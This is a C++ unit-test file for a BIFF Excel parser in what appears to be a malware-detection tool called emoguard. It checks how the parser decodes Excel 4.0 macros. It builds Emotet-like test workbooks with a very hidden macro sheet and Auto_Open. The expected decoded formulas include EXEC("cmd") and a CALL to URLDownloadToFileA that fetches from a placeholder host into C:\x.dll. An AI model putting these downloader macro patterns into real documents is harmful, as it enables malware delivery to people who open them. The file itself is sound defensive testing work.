// Tests formats::biff: a built BIFF8 workbook with a very hidden macro sheet and Auto_Open, formula
// decoding (strings, functions, commands, references, numbers), lying BOUNDSHEET types, FILEPASS,
// BIFF5, CONTINUE records, function names, and the oletools excel4_sample_macro.xls corpus file.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstring>
#include <string>
#include <vector>

#include "formats/biff/biff.hpp"
#include "formats/biff/formula.hpp"
#include "emoguard/text.hpp"
#include "formats/cfb/cfb.hpp"
#include "office_builders.hpp"

namespace emoguard::formats::biff {
namespace {

using namespace emoguard::testing;
using namespace std::literals;

bool has_issue(const Workbook& wb, std::string_view code) {
  return std::any_of(wb.issues.begin(), wb.issues.end(), [&](const Issue& i) { return i.code == code; });
}
std::string codes(const Workbook& wb) {
  std::string s;
  for (const auto& i : wb.issues) s += i.code + " ";
  return s;
}

std::string emotet_like_workbook() { return xlm_downloader_workbook(); }

TEST(Biff, SheetsNamesAndFormulas) {
  const std::string s = emotet_like_workbook();
  const Workbook wb = parse_workbook(view(s));
  EXPECT_TRUE(wb.issues.empty()) << codes(wb);
  EXPECT_EQ(wb.biff, 8);
  EXPECT_FALSE(wb.encrypted);
  EXPECT_TRUE(wb.has_macro_sheet());
  ASSERT_EQ(wb.sheets.size(), 2u);
  EXPECT_EQ(wb.sheets[0].name, "Sheet1");
  EXPECT_EQ(wb.sheets[0].state, SheetState::visible);
  EXPECT_FALSE(wb.sheets[0].macro);
  EXPECT_TRUE(wb.sheets[0].formulas.empty());
  const Sheet& m = wb.sheets[1];
  EXPECT_EQ(m.name, "Macro1");
  EXPECT_EQ(m.state, SheetState::very_hidden);
  EXPECT_EQ(m.boundsheet_type, 1);
  EXPECT_TRUE(m.macro);
  EXPECT_EQ(m.offset, s.find("\x09\x08\x10\x00\x00\x06\x40\x00"s));
  ASSERT_EQ(wb.names.size(), 1u);
  EXPECT_EQ(wb.names[0].name, "Auto_Open");
  EXPECT_TRUE(wb.names[0].builtin);
  EXPECT_FALSE(wb.names[0].hidden);
  EXPECT_EQ(wb.names[0].formula, "Macro1!$A$1");
  ASSERT_EQ(m.formulas.size(), 4u);
  EXPECT_EQ(m.formulas[0].formula, "=ALERT(\"Hello\")");
  EXPECT_EQ(m.formulas[1].formula, "=EXEC(\"cmd\")");
  EXPECT_EQ(m.formulas[2].formula,
            "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://example.invalid/x\",\"C:\\x.dll\",0,0)");
  EXPECT_EQ(m.formulas[3].formula, "=HALT()");
  for (std::size_t i = 0; i < m.formulas.size(); ++i) {
    EXPECT_TRUE(m.formulas[i].complete) << i;
    EXPECT_EQ(m.formulas[i].row, i);
    EXPECT_EQ(m.formulas[i].col, 0u);
  }
}

TEST(Biff, HiddenStatesAndHiddenNames) {
  SheetSpec a{"Vis", 0, 0, 0x0010, {}};
  SheetSpec b{"Hid", 1, 0, 0x0010, {}};
  SheetSpec c{"VeryHid", 2, 0, 0x0010, {}};
  SheetSpec d{"Chart", 0, 2, 0x0020, {}};
  const Workbook wb = parse_workbook(view(workbook({a, b, c, d}, {lbl_named("secret", ptg_int(7), 0x0001), lbl_builtin(0x02, ptg_int(1))})));
  ASSERT_EQ(wb.sheets.size(), 4u);
  EXPECT_EQ(wb.sheets[0].state, SheetState::visible);
  EXPECT_EQ(wb.sheets[1].state, SheetState::hidden);
  EXPECT_EQ(wb.sheets[2].state, SheetState::very_hidden);
  EXPECT_EQ(wb.sheets[3].boundsheet_type, 2);
  EXPECT_FALSE(wb.has_macro_sheet());
  ASSERT_EQ(wb.names.size(), 2u);
  EXPECT_EQ(wb.names[0].name, "secret");
  EXPECT_TRUE(wb.names[0].hidden);
  EXPECT_FALSE(wb.names[0].builtin);
  EXPECT_EQ(wb.names[0].formula, "7");
  EXPECT_EQ(wb.names[1].name, "Auto_Close");
}

TEST(Biff, BuiltinNames) {
  EXPECT_EQ(builtin_name(0x00), "Consolidate_Area");
  EXPECT_EQ(builtin_name(0x01), "Auto_Open");
  EXPECT_EQ(builtin_name(0x02), "Auto_Close");
  EXPECT_EQ(builtin_name(0x0A), "Auto_Activate");
  EXPECT_EQ(builtin_name(0x0B), "Auto_Deactivate");
  EXPECT_EQ(builtin_name(0x0D), "_FilterDatabase");
  EXPECT_EQ(builtin_name(0x0E), "Builtin_14");
  EXPECT_EQ(builtin_name(0xFF), "Builtin_255");
}

TEST(Biff, MacroSheetHiddenBehindAWorksheetBoundsheet) {
  SheetSpec liar{"Sheet2", 0, 0, 0x0040, {biff_formula(0, 0, ptg_str("calc") + ptg_funcvar(1, 110))}};
  const Workbook wb = parse_workbook(view(workbook({liar}, {})));
  EXPECT_TRUE(has_issue(wb, "biff.sheet_type_mismatch")) << codes(wb);
  ASSERT_EQ(wb.sheets.size(), 1u);
  EXPECT_EQ(wb.sheets[0].boundsheet_type, 0);
  EXPECT_TRUE(wb.sheets[0].macro);
  EXPECT_TRUE(wb.has_macro_sheet());
  ASSERT_EQ(wb.sheets[0].formulas.size(), 1u);
  EXPECT_EQ(wb.sheets[0].formulas[0].formula, "=EXEC(\"calc\")");
}

TEST(Biff, UnlistedMacroSheet) {
  std::string s = workbook({}, {});
  const std::size_t off = s.size();
  s += biff_bof(0x0040);
  s += biff_formula(5, 2, ptg_funcvar(0, 54));
  s += biff_eof();
  const Workbook wb = parse_workbook(view(s));
  EXPECT_TRUE(has_issue(wb, "biff.unlisted_macro_sheet"));
  ASSERT_EQ(wb.sheets.size(), 1u);
  EXPECT_EQ(wb.sheets[0].offset, off);
  EXPECT_TRUE(wb.sheets[0].macro);
  ASSERT_EQ(wb.sheets[0].formulas.size(), 1u);
  EXPECT_EQ(wb.sheets[0].formulas[0].formula, "=HALT()");
  EXPECT_EQ(wb.sheets[0].formulas[0].row, 5u);
  EXPECT_EQ(wb.sheets[0].formulas[0].col, 2u);
}

TEST(Biff, WorksheetFormulasAreNotCollected) {
  SheetSpec ws{"Data", 0, 0, 0x0010, {biff_formula(0, 0, ptg_int(1))}};
  const Workbook wb = parse_workbook(view(workbook({ws}, {})));
  ASSERT_EQ(wb.sheets.size(), 1u);
  EXPECT_TRUE(wb.sheets[0].formulas.empty());
}

TEST(Biff, FilepassMeansEncrypted) {
  std::string fp;
  app16(fp, 1);  // RC4
  app16(fp, 1);
  app16(fp, 1);
  fp += std::string(48, '\x5A');
  SheetSpec macro{"Macro1", 2, 1, 0x0040, {biff_formula(0, 0, ptg_str("cmd") + ptg_funcvar(1, 110))}};
  const std::string s = workbook({macro}, {lbl_builtin(0x01, ptg_ref3d(0, 0, 0))}, false, biff_record(0x002F, fp));
  const Workbook wb = parse_workbook(view(s));
  EXPECT_TRUE(wb.encrypted);
  EXPECT_EQ(wb.encryption_type, 1);
  EXPECT_TRUE(has_issue(wb, "biff.encrypted"));
  ASSERT_EQ(wb.sheets.size(), 1u);
  EXPECT_EQ(wb.sheets[0].offset, s.find("\x09\x08\x10\x00\x00\x06\x40\x00"s));  // lbPlyPos is in clear
  EXPECT_TRUE(wb.sheets[0].formulas.empty());
  EXPECT_TRUE(wb.sheets[0].name.empty());  // encrypted bytes are not read as a name
  for (const auto& n : wb.names) EXPECT_TRUE(n.formula.empty());
}

TEST(Biff, XorObfuscation) {
  std::string fp;
  app16(fp, 0);
  app16(fp, 0x1234);
  app16(fp, 0x5678);
  const Workbook wb = parse_workbook(view(workbook({}, {}, false, biff_record(0x002F, fp))));
  EXPECT_TRUE(wb.encrypted);
  EXPECT_EQ(wb.encryption_type, 0);
}

TEST(Biff, Biff5StringsAndReferences) {
  // BIFF5: PtgStr has no fHighByte; PtgRef is row (with the relative bits) + one byte of column.
  std::string ref;
  ref += '\x24';
  app16(ref, static_cast<std::uint16_t>(0xC000 | 4));  // row 5, both relative
  app8(ref, 2);                                         // column C
  std::string abs_ref;
  abs_ref += '\x44';
  app16(abs_ref, 9);  // row 10, absolute
  app8(abs_ref, 27);  // column AB
  SheetSpec macro{"Macro5", 1, 1, 0x0040,
                  {biff_formula(0, 0, ptg_str("caf\xE9", false, true) + ptg_funcvar(1, 0x8076)),
                   biff_formula(1, 0, ref + abs_ref + "\x08"s)}};
  const std::string s = workbook({macro}, {}, true);
  const Workbook wb = parse_workbook(view(s));
  EXPECT_EQ(wb.biff, 5);
  EXPECT_TRUE(wb.issues.empty()) << codes(wb);
  ASSERT_EQ(wb.sheets.size(), 1u);
  EXPECT_EQ(wb.sheets[0].name, "Macro5");
  EXPECT_EQ(wb.sheets[0].state, SheetState::hidden);
  ASSERT_EQ(wb.sheets[0].formulas.size(), 2u);
  EXPECT_EQ(wb.sheets[0].formulas[0].formula, "=ALERT(\"café\")");
  EXPECT_EQ(wb.sheets[0].formulas[1].formula, "=C5&$AB$10");
}

TEST(Biff, FormulaContinuedInContinueRecords) {
  const std::string rgce = ptg_str("cmd /c echo split across records") + ptg_funcvar(1, 110);
  const std::size_t cut = 10;  // inside the string
  std::string first = biff_formula(0, 0, rgce.substr(0, cut), static_cast<std::uint16_t>(rgce.size()));
  SheetSpec macro{"M", 0, 1, 0x0040, {first, biff_record(0x003C, rgce.substr(cut, 20)), biff_record(0x003C, rgce.substr(cut + 20))}};
  const Workbook wb = parse_workbook(view(workbook({macro}, {})));
  ASSERT_EQ(wb.sheets.size(), 1u);
  ASSERT_EQ(wb.sheets[0].formulas.size(), 1u);
  EXPECT_EQ(wb.sheets[0].formulas[0].formula, "=EXEC(\"cmd /c echo split across records\")");
  EXPECT_TRUE(wb.sheets[0].formulas[0].complete);
}

TEST(Biff, TruncatedAndMissingRecords) {
  const std::string s = emotet_like_workbook();
  for (std::size_t n = 0; n < s.size(); n += 3) {
    const Workbook wb = parse_workbook(view(s.substr(0, n)));
    for (const auto& sh : wb.sheets) {
      for (const auto& f : sh.formulas) EXPECT_EQ(f.formula.rfind("=", 0), 0u);
    }
  }
  const Workbook empty = parse_workbook(ByteView());
  EXPECT_TRUE(has_issue(empty, "biff.no_bof"));
  const Workbook cut = parse_workbook(view(s.substr(0, s.size() - 9)));  // inside the last FORMULA
  EXPECT_TRUE(has_issue(cut, "biff.truncated_record"));
  const Workbook nobof = parse_workbook(view(biff_eof() + s));
  EXPECT_TRUE(has_issue(nobof, "biff.no_bof"));
}

TEST(Biff, RecordAndFormulaLimits) {
  SheetSpec macro{"M", 0, 1, 0x0040, {}};
  for (int i = 0; i < 20; ++i) macro.records.push_back(biff_formula(static_cast<std::uint16_t>(i), 0, ptg_int(static_cast<std::uint16_t>(i))));
  const std::string s = workbook({macro}, {});
  BiffLimits l;
  l.max_formulas = 5;
  const Workbook wb = parse_workbook(view(s), l);
  EXPECT_TRUE(has_issue(wb, "limit.biff_formulas"));
  ASSERT_EQ(wb.sheets.size(), 1u);
  EXPECT_EQ(wb.sheets[0].formulas.size(), 5u);
  BiffLimits r;
  r.max_records = 4;
  const Workbook wr = parse_workbook(view(s), r);
  EXPECT_TRUE(has_issue(wr, "limit.biff_records"));
}

// ------------------------------------------------------------------ formula decoding

DecodedFormula decode8(const std::string& rgce) { return decode_formula(view(rgce), FormulaContext{}); }

TEST(BiffFormula, StringsLatin1AndWide) {
  EXPECT_EQ(decode8(ptg_str("caf\xE9") + ptg_funcvar(1, 0x8076)).text, "=ALERT(\"café\")");
  const std::string wide = utf8_to_utf16le("日本語のテスト");
  EXPECT_EQ(decode8(ptg_str(wide, true) + ptg_funcvar(1, 0x8076)).text, "=ALERT(\"日本語のテスト\")");
  EXPECT_EQ(decode8(ptg_str("")).text, "=\"\"");
}

TEST(BiffFormula, Concatenation) {
  const auto f = decode8(ptg_str("cmd") + ptg_str(" /c ") + "\x08"s + ptg_str("calc") + "\x08"s + ptg_funcvar(1, 110));
  EXPECT_EQ(f.text, "=EXEC(\"cmd\"&\" /c \"&\"calc\")");
  EXPECT_TRUE(f.complete);
}

TEST(BiffFormula, Numbers) {
  EXPECT_EQ(decode8(ptg_int(42)).text, "=42");
  EXPECT_EQ(decode8(ptg_int(65535)).text, "=65535");
  auto num = [](double d) {
    std::string p(1, '\x1F');
    std::uint64_t bits = 0;
    std::memcpy(&bits, &d, 8);
    app64(p, bits);
    return p;
  };
  EXPECT_EQ(decode8(num(1.5)).text, "=1.5");
  EXPECT_EQ(decode8(num(3.0)).text, "=3");
  EXPECT_EQ(decode8(num(-2.0)).text, "=-2");
  EXPECT_EQ(decode8(ptg_int(1) + ptg_int(2) + "\x03"s + ptg_int(3) + "\x05"s).text, "=1+2*3");
  EXPECT_EQ(decode8("\x1D\x01"s).text, "=TRUE");
  EXPECT_EQ(decode8("\x1C\x07"s).text, "=#ERR7");
}

TEST(BiffFormula, References) {
  std::string rel(1, '\x24');
  app16(rel, 4);
  app16(rel, static_cast<std::uint16_t>(0xC000 | 2));
  EXPECT_EQ(decode8(rel).text, "=C5");
  std::string abs(1, '\x44');
  app16(abs, 0);
  app16(abs, 0);
  EXPECT_EQ(decode8(abs).text, "=$A$1");
  std::string mixed(1, '\x64');
  app16(mixed, 99);
  app16(mixed, static_cast<std::uint16_t>(0x4000 | 26));
  EXPECT_EQ(decode8(mixed).text, "=AA$100");
  FormulaContext ctx;
  ctx.sheet = [](std::uint32_t ixti) { return ixti == 3 ? std::string("Macro1") : std::string(); };
  EXPECT_EQ(decode_formula(view(ptg_ref3d(3, 1, 1)), ctx).text, "=Macro1!$B$2");
  EXPECT_EQ(decode_formula(view(ptg_ref3d(9, 1, 1)), ctx).text, "=$B$2");
  // GOTO(Macro1!A1) as a fixed-arity PtgFunc.
  std::string go = ptg_ref3d(3, 0, 0) + "\x41"s;
  app16(go, 53);
  EXPECT_EQ(decode_formula(view(go), ctx).text, "=GOTO(Macro1!$A$1)");
}

TEST(BiffFormula, NamesResolveThroughTheContext) {
  FormulaContext ctx;
  ctx.name = [](std::uint32_t i) { return i == 1 ? std::string("Auto_Open") : std::string(); };
  std::string n1(1, '\x23');
  app32(n1, 1);
  std::string n2(1, '\x43');
  app32(n2, 7);
  EXPECT_EQ(decode_formula(view(n1), ctx).text, "=Auto_Open");
  EXPECT_EQ(decode_formula(view(n2), ctx).text, "=NAME_7");
}

TEST(BiffFormula, FixedArityFunctionsAndSetValue) {
  std::string chr = ptg_int(65);
  chr += '\x41';
  app16(chr, 111);  // CHAR(65)
  EXPECT_EQ(decode8(chr).text, "=CHAR(65)");
  std::string mid = ptg_str("abcdef") + ptg_int(2) + ptg_int(3) + "\x41"s;
  app16(mid, 31);
  EXPECT_EQ(decode8(mid).text, "=MID(\"abcdef\",2,3)");
  // A variable-arity function used through PtgFunc cannot be decoded honestly.
  std::string bad = ptg_str("x") + "\x41"s;
  app16(bad, 110);
  EXPECT_FALSE(decode8(bad).complete);
}

TEST(BiffFormula, UnknownPtgMarksIncomplete) {
  const auto f = decode8(ptg_int(1) + "\x01\x00\x00\x00\x00"s);  // PtgExp: not decoded
  EXPECT_FALSE(f.complete);
  EXPECT_NE(f.text.find("?ptg01"), std::string::npos) << f.text;
  EXPECT_FALSE(decode8("\xFF"s).complete);
  EXPECT_FALSE(decode8("\x18\x01"s).complete);
}

TEST(BiffFormula, TruncatedTokensMarkIncomplete) {
  const std::vector<std::string> cuts = {"\x17"s, "\x17\x05\x00" "ab"s, "\x1E\x01"s, "\x1F\x00\x00"s, "\x42\x01"s, "\x24\x01\x00"s, "\x3A\x00\x00\x00"s};
  for (const auto& c : cuts) {
    const auto f = decode8(c);
    EXPECT_FALSE(f.complete) << text::hex(view(c));
    EXPECT_EQ(f.text.rfind("=", 0), 0u);
  }
  // Too few arguments on the stack.
  EXPECT_FALSE(decode8(ptg_funcvar(3, 110)).complete);
  EXPECT_FALSE(decode8("\x03"s).complete);
}

TEST(BiffFormula, AttrTokensAreSkipped) {
  // PtgAttr tAttrSpace (0x40) before the function: whitespace only.
  std::string f = ptg_str("a") + "\x19\x40\x00\x01"s + ptg_funcvar(1, 0x8076);
  EXPECT_EQ(decode8(f).text, "=ALERT(\"a\")");
}

TEST(BiffFormula, Xlsb) {
  FormulaContext ctx;
  ctx.dialect = Dialect::xlsb;
  std::string s(1, '\x17');
  app16(s, 5);
  s += utf16le("hello");
  s += ptg_funcvar(1, 0x8076);
  EXPECT_EQ(decode_formula(view(s), ctx).text, "=ALERT(\"hello\")");
}

TEST(BiffFormula, FunctionNames) {
  EXPECT_EQ(function_name(0x8000 | 0x76), "ALERT");
  EXPECT_EQ(function_name(110), "EXEC");
  EXPECT_EQ(function_name(150), "CALL");
  EXPECT_EQ(function_name(149), "REGISTER");
  EXPECT_EQ(function_name(267), "REGISTER.ID");
  EXPECT_EQ(function_name(54), "HALT");
  EXPECT_EQ(function_name(53), "GOTO");
  EXPECT_EQ(function_name(111), "CHAR");
  EXPECT_EQ(function_name(108), "SET.VALUE");
  EXPECT_EQ(function_name(88), "SET.NAME");
  EXPECT_EQ(function_name(186), "GET.WORKSPACE");
  EXPECT_EQ(function_name(132), "FOPEN");
  EXPECT_EQ(function_name(137), "FWRITELN");
  EXPECT_EQ(function_name(138), "FWRITE");
  EXPECT_EQ(function_name(133), "FCLOSE");
  EXPECT_EQ(function_name(0x8011), "RUN");
  EXPECT_EQ(function_name(0x8060), "FORMULA");
  EXPECT_EQ(function_name(0x8061), "FORMULA.FILL");
  EXPECT_EQ(function_name(0x8062), "FORMULA.ARRAY");
  EXPECT_EQ(function_name(0x8006), "FILE.DELETE");
  EXPECT_EQ(function_name(0x8095), "WAIT");
  EXPECT_EQ(function_name(999), "FUNC_999");
  EXPECT_EQ(function_name(0x8000 | 999), "CMD_999");
}

// ------------------------------------------------------------------ corpus

std::optional<Workbook> corpus_workbook(const std::string& rel, std::string& why) {
  const std::string dir = testdata_dir();
  if (dir.empty()) {
    why = "test corpus not found: set EMOGUARD_TESTDATA or provide ../shared/testdata";
    return std::nullopt;
  }
  const auto bytes = read_whole_file(dir + "/" + rel);
  if (!bytes) {
    why = dir + "/" + rel + " is missing";
    return std::nullopt;
  }
  auto c = cfb::Compound::parse(view(*bytes));
  if (!c.ok()) throw std::runtime_error("not a compound file: " + rel);
  const cfb::Entry* e = c->find("Workbook");
  if (e == nullptr) e = c->find("Book");
  if (e == nullptr) throw std::runtime_error("no Workbook stream in " + rel);
  auto data = c->read(*e);
  if (!data.ok()) throw std::runtime_error("cannot read Workbook stream of " + rel);
  return parse_workbook(view(*data));
}

TEST(BiffCorpus, Excel4SampleMacroXls) {
  std::string why;
  const auto wb = corpus_workbook("office/oletools/excel4-macros/excel4_sample_macro.xls", why);
  if (!wb) GTEST_SKIP() << why;
  EXPECT_EQ(wb->biff, 8);
  EXPECT_FALSE(wb->encrypted);
  std::vector<std::string> formulas;
  for (const auto& s : wb->sheets) {
    if (!s.macro) continue;
    EXPECT_EQ(s.name, "Macro1");
    for (const auto& f : s.formulas) formulas.push_back(f.formula);
  }
  EXPECT_EQ(formulas, (std::vector<std::string>{"=ALERT(\"This is a sample Excel 4 macro\")", "=HALT()"}));
  const bool auto_open = std::any_of(wb->names.begin(), wb->names.end(), [](const Name& n) { return n.name == "Auto_Open" && n.builtin; });
  EXPECT_TRUE(auto_open);
}

TEST(BiffCorpus, Excel4SampleMacroExcel5Format) {
  std::string why;
  const auto wb = corpus_workbook("office/oletools/excel4-macros/excel4_sample_macro_excel5_format.xls", why);
  if (!wb) GTEST_SKIP() << why;
  EXPECT_EQ(wb->biff, 5);
  std::vector<std::string> formulas;
  for (const auto& s : wb->sheets) {
    if (s.macro) {
      for (const auto& f : s.formulas) formulas.push_back(f.formula);
    }
  }
  EXPECT_EQ(formulas, (std::vector<std::string>{"=ALERT(\"This is a sample Excel 4 macro\")", "=HALT()"}));
}

}  // namespace
}  // namespace emoguard::formats::biff
